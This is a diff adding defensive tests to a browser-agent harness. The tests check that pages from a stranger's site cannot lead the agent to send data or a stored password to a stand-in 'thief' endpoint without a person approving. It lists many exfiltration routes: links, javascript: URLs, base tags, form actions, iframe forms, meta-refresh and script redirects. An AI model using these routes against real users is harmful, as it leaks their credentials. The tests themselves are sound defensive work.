@@ -237,3 +237,130 @@ describe('what a person has to allow is not set off another way', () => {
     expect(attempts.questions()).toHaveLength(1);
   }, 60_000);
 });
+
+describe('the site of a stranger gets nothing without a person', () => {
+  const secret = 'harbour-hush-2026';
+  const field = (action: string, more = '') =>
+    `<form action="${action}" ${more}><label>Name <input name="n"></label><button>Go on</button></form>`;
+  const declined = (seen: SeenPrompt) =>
+    /does not allow it/.test(seen.text) ? [call('fail', { text: 'Declined' })] : null;
+  const fills = (seen: SeenPrompt, last: ModelCall): ModelCall[] => [
+    call('type', { element: seen.element(/textbox "Name"/), text: 'Robin' }),
+    last,
+  ];
+  const ways: [string, (to: string) => string, (seen: SeenPrompt) => ModelCall[]][] = [
+    [
+      'a link',
+      (to) => `<a href="${to}">Terms</a>`,
+      (seen) => [call('click', { element: seen.element(/link "Terms"/) })],
+    ],
+    [
+      'a link that opens a tab',
+      (to) => `<a target="_blank" href="${to}">Terms</a>`,
+      (seen) => [call('click', { element: seen.element(/link "Terms"/) })],
+    ],
+    [
+      'a link with a base',
+      (to) => `<base href="${to}/"><a href="terms">Terms</a>`,
+      (seen) => [call('click', { element: seen.element(/link "Terms"/) })],
+    ],
+    [
+      'a link with a script for an address',
+      (to) => `<a href="javascript:location.href='${to}'">Terms</a>`,
+      (seen) => [call('click', { element: seen.element(/link "Terms"/) })],
+    ],
+    [
+      'a form with a typed text',
+      (to) => field(to),
+      (seen) => fills(seen, call('click', { element: seen.element(/button "Go on"/) })),
+    ],
+    [
+      'a form that is sent by Enter',
+      (to) => field(to),
+      (seen) => fills(seen, call('press', { key: 'Enter', element: seen.element(/textbox "Name"/) })),
+    ],
+    [
+      'a form that is sent by Enter where the focus is',
+      (to) => field(to),
+      (seen) => fills(seen, call('press', { key: 'Enter' })),
+    ],
+    [
+      'a form whose button has an address of its own',
+      (to) =>
+        `<form id="f" action="/ok"><label>Name <input name="n"></label></form><button form="f" formaction="${to}">Go on</button>`,
+      (seen) => fills(seen, call('click', { element: seen.element(/button "Go on"/) })),
+    ],
+    [
+      'a form in a frame',
+      (to) => `<iframe width="400" height="200" srcdoc='${field(to)}'></iframe>`,
+      (seen) => {
+        if (seen.maybe(/textbox "Name"/) === undefined) return [call('wait', { seconds: 0.2 })];
+        return fills(seen, call('click', { element: seen.element(/button "Go on"/) }));
+      },
+    ],
+  ];
+
+  test.each(ways)(
+    '%s',
+    async (_, body, way) => {
+      shop.body = body(`${thief.url}/steal`);
+      attempts.follow((seen) => declined(seen) ?? way(seen));
+      const run = attempts.assign({ steps: [open(`${shop.url}/`), goal('Look around')] });
+      await attempts.question();
+      expect(kindAsked(run)).toBe('leave');
+      await attempts.reply(run, 1, { choice: 'decline' });
+      expect(await attempts.ended(run)).toMatchObject({ status: 'failed', error: { message: 'Declined' } });
+      expect(thief.asked).toEqual([]);
+    },
+    60_000,
+  );
+
+  test('a form with a secret that goes there, although the run may leave', async () => {
+    attempts.gateway.secrets.set('password', secret);
+    shop.body = field(`${thief.url}/steal`, 'method="post"');
+    attempts.follow(
+      (seen) =>
+        declined(seen) ?? [call('type', { element: seen.element(/textbox "Name"/), text: '{{inputs.password}}' })],
+    );
+    const run = attempts.assign(
+      {
+        inputs: password,
+        steps: [open(`${shop.url}/`), goal('Log in with {{inputs.password}}', { allow: ['leave'] })],
+      },
+      { secrets: ['password'] },
+    );
+    await attempts.question();
+    expect(kindAsked(run)).toBe('credentials');
+    await attempts.reply(run, 1, { choice: 'decline' });
+    await attempts.ended(run);
+    expect(thief.asked).toEqual([]);
+  }, 60_000);
+
+  test('the first page leads there by itself: it is not taken for the site of the run', async () => {
+    attempts.gateway.secrets.set('password', secret);
+    thief.body = field('/steal', 'method="post"');
+    for (const body of [
+      `<meta http-equiv="refresh" content="0;url=${thief.url}/">`,
+      `<script>location.replace("${thief.url}/")</script>`,
+    ]) {
+      shop.body = body;
+      attempts.follow((seen) => {
+        if (seen.maybe(/textbox "Name"/) === undefined) return [call('wait', { seconds: 0.2 })];
+        return (
+          declined(seen) ?? [call('type', { element: seen.element(/textbox "Name"/), text: '{{inputs.password}}' })]
+        );
+      });
+      const asked = attempts.questions().length;
+      const run = attempts.assign(
+        { inputs: password, steps: [open(`${shop.url}/`), goal('Log in with {{inputs.password}}')] },
+        { secrets: ['password'] },
+      );
+      await attempts.question(asked + 1);
+      expect(kindAsked(run)).toBe('credentials');
+      await attempts.reply(run, asked + 1, { choice: 'decline' });
+      await attempts.ended(run);
+      expect(thief.taken).toEqual([]);
+      expect(JSON.stringify(attempts.requests)).not.toContain(secret);
+    }
+  }, 120_000);
+});
